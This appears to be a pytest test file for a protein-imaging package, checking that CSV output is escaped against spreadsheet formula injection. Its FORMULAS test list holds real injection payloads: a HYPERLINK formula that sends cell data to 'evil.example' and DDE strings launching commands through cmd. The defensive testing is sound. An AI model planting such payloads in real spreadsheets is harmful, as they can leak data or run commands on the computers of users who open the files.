"""Tables that people open in a spreadsheet: no text in them is taken for a formula, and our own readers give the texts back."""

from __future__ import annotations

import ast
import csv
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from PIL import Image

import pci_core
from pci_core import init, reading, results, tables
from pci_core.analysis import trees, treeview
from pci_core.analysis.join import read_table
from pci_core.analysis.result import save_table
from pci_core.data import hpa
from pci_core.data.hpa_addresses import release
from pci_core.data.hpa_plan import Plan
from pci_core.data.manifest import OK, Manifest
from pci_core.data.table import read_field_table
from pci_core.recipe import load

FORMULAS = [
    '=HYPERLINK("http://evil.example?"&A1,"click")', "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1", "'=1+1", "''=1+1", '=1+1";=1+1', "\uff1d1+1", "\uff0b1+1", "\uff0d1+1",
    "\uff20SUM(A1)", "=", "+A1", "-A1", "-1e3x", "+-1", "-inf+A1",
]  # fmt: skip
HARMLESS = ["CCNB1", "a=b", "'t Hooft", "-12.5", "+3", "-1e-5", "12", "", "µ", "a,b", 'say "so"', "two\nlines", " =1+1", "HLA-A"]
STARTS = set("=+-@\t\r\n\uff0b\uff0d\uff1d\uff20")  # written out: as spreadsheets have it, not as the package does


def dangerous(cell: str) -> bool:
    """Whether a spreadsheet would run a cell: it begins as a formula does and is no number."""
    try:
        float(cell)
    except ValueError:
        return cell[:1] in STARTS
    return cell[:1].isspace()


def cells_of(path: Path, delimiter: str = ",") -> list[str]:
    with open(path, newline="", encoding="utf-8-sig") as handle:
        return [cell for row in csv.reader(handle, delimiter=delimiter) for cell in row]


def check(path: Path, texts: list[str], delimiter: str = ",") -> None:
    cells = cells_of(path, delimiter)
    assert [c for c in cells if dangerous(c)] == [], path
    assert len([c for c in cells if any(t.strip() and t.strip() in c for t in texts)]) >= 1, f"{path} does not hold the texts at all"


def test_a_table_of_results(tmp_path: Path) -> None:
    table = pd.DataFrame({"protein": FORMULAS, "=A1": -1.5, "n": range(len(FORMULAS))})
    save_table(table, tmp_path / "table")
    check(tmp_path / "table.csv", FORMULAS)
    pd.testing.assert_frame_equal(reading.read_csv(tmp_path / "table.csv", keep_default_na=False), table)
    pd.testing.assert_frame_equal(pd.read_parquet(tmp_path / "table.parquet"), table)  # which no spreadsheet opens: as it is
    assert "-1.5" in cells_of(tmp_path / "table.csv")  # a number stays one


@given(
    st.lists(
        st.one_of(st.sampled_from(FORMULAS + HARMLESS), st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\0"))),
        min_size=1,
        max_size=8,
    )
)
@settings(max_examples=40, deadline=None)
def test_any_text_comes_back_as_it_was(tmp_path_factory: pytest.TempPathFactory, texts: list[str]) -> None:
    path = tmp_path_factory.getbasetemp() / "any.csv"
    tables.write_csv(pd.DataFrame({"text": texts, "row": [str(i) for i in range(len(texts))]}), path)
    assert [c for c in cells_of(path) if dangerous(c)] == []
    found = reading.read_csv(path, dtype=str, keep_default_na=False)
    assert found["text"].tolist() == texts


def test_harmless_texts_and_numbers_stay_as_they_are(tmp_path: Path) -> None:
    tables.write_csv(pd.DataFrame({"text": HARMLESS}), tmp_path / "a.csv")
    assert cells_of(tmp_path / "a.csv")[1:] == [t for t in HARMLESS]


def test_scores_and_the_page_made_of_them(tmp_path: Path) -> None:
    row = {"notebook": "03_x", "recipe": "=A1", "simulated": True, "features": "=conv3", "what": "@SUM(A1)", "value": -0.5, "low": np.nan,
           "high": np.nan, "n_cells": 3, "n_proteins": np.nan, "unit": "", "paper": np.nan, "paper_on": "", "note": "-x"}  # fmt: skip
    save_table(pd.DataFrame([row]), tmp_path / "03_x_conv3_scores")
    check(tmp_path / "03_x_conv3_scores.csv", ["@SUM(A1)"])
    assert "@SUM(A1)" in results.fill("<!-- results: 03_x -->\n", tmp_path, tmp_path)
    assert "'@SUM" not in results.fill("<!-- results: 03_x -->\n", tmp_path, tmp_path)


@pytest.mark.slow
def test_what_pci_init_writes(tmp_path: Path) -> None:
    rng = np.random.default_rng(0)
    folder = tmp_path / "=images"
    folder.mkdir()
    for name in ("=A1", "@SUM"):
        (folder / f"{name}_s9_w1.png").write_text("no image")
        for channel in (1, 2):
            for field in (1, 2):
                yy, xx = np.mgrid[:96, :96]
                spots = sum(80 * np.exp(-((yy - y) ** 2 + (xx - x) ** 2) / 40) for y, x in rng.integers(12, 84, (6, 2)))
                Image.fromarray((spots + rng.integers(0, 9, (96, 96))).clip(0, 255).astype(np.uint8)).save(
                    folder / f"{name}_s{field}_w{channel}.png"
                )
    made = init.init_folder(folder, tmp_path / "out", progress=False)
    assert {"fields.csv", "left_out.csv"} <= {p.name for p in made.files}
    check(tmp_path / "out" / "left_out.csv", ["@SUM_s9_w1.png"])
    check(tmp_path / "out" / "fields.csv", ["@SUM_s1"])
    fields, root = read_field_table(tmp_path / "out" / "fields.csv", load(made.recipe))
    assert any(f.startswith("@SUM") for f in fields["field"]) and not fields["field"].str.startswith("'").any()
    assert all((root / p).is_file() for c in fields if c.startswith("path") for p in fields[c])


def test_a_field_table_of_the_user_with_formulas_is_read_as_it_is(own_recipe: Path) -> None:
    path = own_recipe.parent / "fields.csv"
    table = pd.read_csv(path, dtype=str)
    table["protein"] = ["=A1", "-x", "@a", "+b", "'=c", "d", "e", "f"]
    table.to_csv(path, index=False)
    assert read_field_table(path, load(own_recipe))[0]["protein"].tolist() == ["=A1", "-x", "@a", "+b", "=c", "d", "e", "f"]


def test_what_a_download_of_the_atlas_writes(tmp_path: Path) -> None:
    row = {"field": "1_1_A1_1", "image": "=A1_HPA1_x", "protein": "=A1", "ensembl": "ENSG00000000001", "antibody": "HPA000001",
           "cell_line": "-2+3", "location": "@SUM(1)", "file": "images/1/1_A1_1_blue_red_green.jpg"}  # fmt: skip
    made = Plan(release("18"), tmp_path, rows=[row])
    manifest = Manifest(tmp_path)
    manifest.add(row["file"], status=OK, url="https://images.proteinatlas.org/1/1_A1_1_blue_red_green.jpg", reason="=A1", tries=1)
    manifest.write_table([{"url": "=A1", "reason": "+1"}])
    hpa._write_results(made, manifest, pd.Series(dtype=int).to_dict() | {"ok": 1, "received": 1, OK: 1})  # type: ignore[arg-type]
    check(tmp_path / "fields.csv", ["=A1"])
    check(manifest.table, ["=A1"])
    assert Manifest(tmp_path).rows[row["file"]]["reason"] == "=A1"


def test_dendrograms_for_treeview(tmp_path: Path) -> None:
    x = np.random.default_rng(0).normal(size=(4, 3))
    rows = trees.grow(x, ["=A1", "-B", "@C", "d"], metric="euclidean")
    columns = trees.grow(x.T, ["+f1", "f2", "f3"], metric="euclidean")
    path, *_ = treeview.write_treeview(tmp_path / "a", x, rows, columns, descriptions=["=A1 (nucleus)", "b", "c", "d"])
    check(path, ["=A1"], "\t")


def test_a_users_own_table_of_features(tmp_path: Path) -> None:
    table = pd.DataFrame({"cell_id": ["=a", "-b"], "=f1": [1.0, 2.0], "f2": [-1.0, 0.5]})
    save_table(table, tmp_path / "own")
    found = read_table(tmp_path / "own.csv")
    assert found.obs_names.tolist() == ["=a", "-b"] and found.var_names.tolist() == ["=f1", "f2"]


def test_no_table_goes_round_the_one_function() -> None:
    """Everything that the package writes as CSV goes through `pci_core.tables`."""
    wrong = []
    for path in sorted(Path(pci_core.__file__).parent.rglob("*.py")):
        text = path.read_text(encoding="utf-8")
        if path.name == "tables.py" or not any(name in text for name in ("to_csv", "DictWriter", "csv.writer")):
            continue
        for node in ast.walk(ast.parse(text)):
            if isinstance(node, ast.Attribute) and node.attr in ("to_csv", "DictWriter", "writer"):
                wrong.append(f"{path.name}:{node.lineno} {node.attr}")
    assert wrong == []
